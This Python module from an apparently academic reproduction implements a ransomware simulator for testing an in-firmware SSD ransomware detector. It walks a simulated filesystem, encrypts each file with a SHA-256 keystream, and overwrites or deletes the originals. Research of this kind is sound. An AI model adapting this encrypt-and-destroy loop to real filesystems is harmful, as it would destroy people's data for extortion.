"""Filesystem-level ransomware for the Table II consistency experiment.

The paper built a custom ransomware that "mimicked the common behaviors of
well-known ransomwares and infected larger than 1 GB files at an arbitrary
point of time".  This one walks the SimpleFS namespace, reads each file,
encrypts it (a keyed stream cipher — any real cipher looks the same to a
header-only detector), and destroys the original in place or out of place.
Because it acts through the filesystem, every one of its filesystem
operations turns into real block I/O on the simulated SSD, where the
in-firmware detector watches.
"""

from __future__ import annotations

import hashlib
import math
from collections import Counter
from typing import List, Optional

import numpy as np

from repro.fs.simplefs import SimpleFS
from repro.rand import derive_rng


def _keystream(key: bytes, length: int) -> bytes:
    """Deterministic stream-cipher keystream (SHA-256 in counter mode)."""
    out = bytearray()
    counter = 0
    while len(out) < length:
        out += hashlib.sha256(key + counter.to_bytes(8, "big")).digest()
        counter += 1
    return bytes(out[:length])


def encrypt(data: bytes, key: bytes) -> bytes:
    """XOR the data with the keystream — output is high-entropy ciphertext."""
    stream = _keystream(key, len(data))
    return bytes(a ^ b for a, b in zip(data, stream))


def shannon_entropy(data: bytes) -> float:
    """Bits of entropy per byte (8.0 = uniformly random)."""
    if not data:
        return 0.0
    counts = Counter(data)
    total = len(data)
    return -sum(
        (count / total) * math.log2(count / total) for count in counts.values()
    )


def looks_encrypted(data: bytes, threshold: float = 7.3) -> bool:
    """Heuristic the Table II check uses: ciphertext has near-8-bit entropy.

    The experiment's plaintext files are low-entropy by construction, so
    the threshold cleanly separates the two.
    """
    sample = data[:64 * 1024]
    return shannon_entropy(sample) >= threshold


class FilesystemRansomware:
    """Walks a SimpleFS and encrypts every file it can reach.

    Args:
        fs: The mounted victim filesystem.
        key: Encryption key (derived from the seed when omitted).
        in_place: Overwrite originals directly; otherwise write the
            ciphertext copy under a new name and delete the original
            (the paper's two in-house variants).
        seed: Drives the victim visit order.
    """

    def __init__(
        self,
        fs: SimpleFS,
        key: Optional[bytes] = None,
        in_place: bool = True,
        seed: int = 0,
    ) -> None:
        self.fs = fs
        self.rng: np.random.Generator = derive_rng(seed, "fs-ransomware")
        self.key = key if key is not None else bytes(self.rng.integers(0, 256, 32, dtype=np.uint8))
        self.in_place = in_place
        self.files_encrypted: List[str] = []

    def run(self, max_files: Optional[int] = None, stop_when=None) -> int:
        """Encrypt files until done, limited, or ``stop_when()`` is true.

        Returns the number of files encrypted.  ``stop_when`` is checked
        between victims — e.g. ``lambda: device.alarm_raised`` stops the
        attack when the firmware locks the device, mirroring how the
        read-only lockdown actually halts an attacker's progress.
        """
        names = self.fs.list_files()
        order = list(names)
        self.rng.shuffle(order)
        self.files_encrypted = []
        for name in order:
            if stop_when is not None and stop_when():
                break
            if max_files is not None and len(self.files_encrypted) >= max_files:
                break
            self._encrypt_file(name)
            self.files_encrypted.append(name)
        return len(self.files_encrypted)

    def _encrypt_file(self, name: str) -> None:
        plaintext = self.fs.read_file(name)
        ciphertext = encrypt(plaintext, self.key)
        if self.in_place:
            self.fs.overwrite(name, ciphertext)
        else:
            self.fs.create(name + ".locked", ciphertext)
            self.fs.delete(name)
